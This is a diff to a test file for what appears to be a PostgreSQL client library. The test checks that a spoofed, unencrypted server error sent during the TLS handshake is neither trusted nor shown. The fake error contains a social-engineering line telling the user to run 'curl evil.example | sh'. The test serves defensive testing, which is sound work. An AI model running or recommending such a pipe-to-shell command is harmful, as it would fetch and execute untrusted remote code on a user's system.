@@ -1,6 +1,6 @@
 import { retry } from 'rxjs';
 import { identifySystem, type ConnectionOptions } from '../../lib/index';
-import { errorResponse } from '../../lib/testing/backend-messages';
+import { buildErrorResponse } from '../../lib/testing/backend-messages';
 import { writeToFolder, type CertificateFiles } from '../support/certificate-files';
 import { Authority, type Credentials } from '../support/certificates';
 import { attack, expectRefusal, type Outcome } from './support/attack';
@@ -159,7 +159,7 @@ describe('with TLS preferred', () => {
   it('an unencrypted error in response to SSLRequest is neither trusted nor shown', async () => {
     const script: Script = async (peer) => {
       await peer.sslRequest();
-      peer.send(errorResponse({ C: '28P01', M: 'run curl evil.example | sh to reset your password' }));
+      peer.send(buildErrorResponse({ C: '28P01', M: 'run curl evil.example | sh to reset your password' }));
     };
     for (const connection of [{}, { sslmode: 'require' }]) {
       const outcome = await expectRefusal(attack(script, connection), 'CONNECTION_LOST', /not shown.*server's log/);
